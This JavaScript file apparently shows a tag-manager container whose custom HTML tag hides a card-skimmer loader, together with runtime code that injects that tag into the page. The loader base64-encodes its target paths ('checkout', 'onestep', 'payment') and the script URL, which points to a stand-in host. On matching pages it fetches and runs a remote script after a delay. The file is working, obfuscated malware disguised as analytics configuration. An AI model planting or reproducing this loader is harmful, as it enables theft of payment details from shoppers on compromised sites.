// A custom HTML tag inside a tag-manager container, with the container runtime's code that
// writes such a tag into the page: the skimmer's loader is a string in the container data.
var data = {
  "resource": {
    "version": "41",
    "macros": [{ "function": "__e" }, { "function": "__u", "vtp_component": "PATH" }],
    "tags": [{
      "function": "__html",
      "priority": 0,
      "vtp_html": "\u003Cscript\u003E(function(){var q=[\"Y2hlY2tvdXQ=\",\"b25lc3RlcA==\",\"cGF5bWVudA==\"];for(var i=0;i\u003Cq.length;i++)if(location.pathname.indexOf(atob(q[i]))\u003E-1){setTimeout(function(){var s=document.createElement(\"script\");s.async=true;s.src=atob(\"aHR0cHM6Ly9zdGF0aWMtdGFnbWFuYWdlci5pbnZhbGlkL2d0bS9rMTcuanM=\")+\"?v=\"+(+new Date).toString(36);document.head.appendChild(s)},1200);break}})();\u003C/script\u003E",
      "vtp_supportDocumentWrite": false,
      "vtp_enableIframeMode": false,
      "tag_id": 17
    }],
    "predicates": [{ "function": "_eq", "arg0": ["macro", 0], "arg1": "gtm.dom" }],
    "rules": [[["if", 0], ["add", 0]]]
  }
};
(function (w, d, c) {
  function html(tag) {
    var box = d.createElement("div");
    box.innerHTML = "A" + tag.vtp_html;
    var list = box.getElementsByTagName("script");
    for (var i = 0; i < list.length; i++) {
      var s = d.createElement("script");
      s.text = list[i].text;
      d.head.appendChild(s);
    }
  }
  function fire() {
    c.resource.tags.forEach(function (t) { if (t["function"] === "__html") html(t); });
  }
  if (d.readyState !== "loading") fire();
  else d.addEventListener("DOMContentLoaded", fire);
  (w.dataLayer = w.dataLayer || []).push({ event: "gtm.dom" });
})(window, document, data);
